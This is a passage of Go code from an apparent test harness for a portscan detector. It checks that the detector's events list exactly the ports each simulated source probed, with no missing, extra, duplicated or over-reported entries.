							missing = append(missing, w)
						}
					}
					for g, n := range got {
						if !want[g] {
							foreign = append(foreign, g)
						}
						if n > 1 {
							twice = append(twice, g)
						}
					}
					sort.Strings(missing)
					sort.Strings(foreign)
					sort.Strings(twice)
					switch {
					case len(foreign) > 0:
						fail("foreign-port|"+pk+tag, fmt.Sprintf("source %s: portscan events list %v which it never probed (probed %v)", ip, foreign, keys(want)))
					case len(missing) > 0:
						fail("missing-port|"+pk+"|"+missingProto(missing)+tag, fmt.Sprintf("source %s probed %v; the events list %v: missing %v", ip, keys(want), keysN(got), missing))
					case len(twice) > 0:
						fail("listed-twice|"+pk+"|"+fmt.Sprintf("%dsources", sc.Sources)+tag, fmt.Sprintf("source %s: %v listed more than once across %d event(s)", ip, twice, nev))
					case len(protos) == 1 && nev > 1:
						fail("reported-more-than-once|"+pk+tag, fmt.Sprintf("source %s: single-protocol burst reported in %d events", ip, nev))
					case nev > len(protos):
						fail("reported-more-than-once|"+pk+tag, fmt.Sprintf("source %s: %d events for %d protocol groups", ip, nev, len(protos)))
					}
				}
			}
			evalBurst(sc.Probes, ob.Events, "")
			if len(sc.Again) > 0 {
				evalBurst(sc.Again, ob.Events2, "|second-burst-of-a-reported-source")
			}
			for _, e := range append(append([]evObs(nil), ob.Events...), ob.Events2...) {
				known := false
				for s := 0; s < sc.Sources; s++ {
					if e.Src == srcIP(k, s).String() {
						known = true
					}
				}
				if !known {
					fail("unknown-source", "portscan event for a source that sent nothing: "+e.Src)
				}
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s) - crash classes belong to C02", e.Class, e.Frame)})
		}
	}
	return out
}

func protoKey(m map[string]bool) string {
	var o []string
	for k := range m {
		o = append(o, k)
	}
	sort.Strings(o)
	return strings.Join(o, "+")
}

func missingProto(missing []string) string {
	m := map[string]bool{}
	for _, x := range missing {
		m[strings.Split(x, "/")[0]] = true
	}
	return "missing-" + protoKey(m)
}

func keys(m map[string]bool) []string {
	var o []string
	for k := range m {
		o = append(o, k)
	}
	sort.Strings(o)
	if len(o) > 12 {
		o = append(o[:12], "...")
	}
	return o
}

func keysN(m map[string]int) []string {
	var o []string
	for k := range m {
		o = append(o, k)
	}
	sort.Strings(o)
	if len(o) > 12 {
		o = append(o[:12], "...")
	}
	return o
}

func mini(a, b int) int {
	if a < b {
		return a
	}
	return b
}
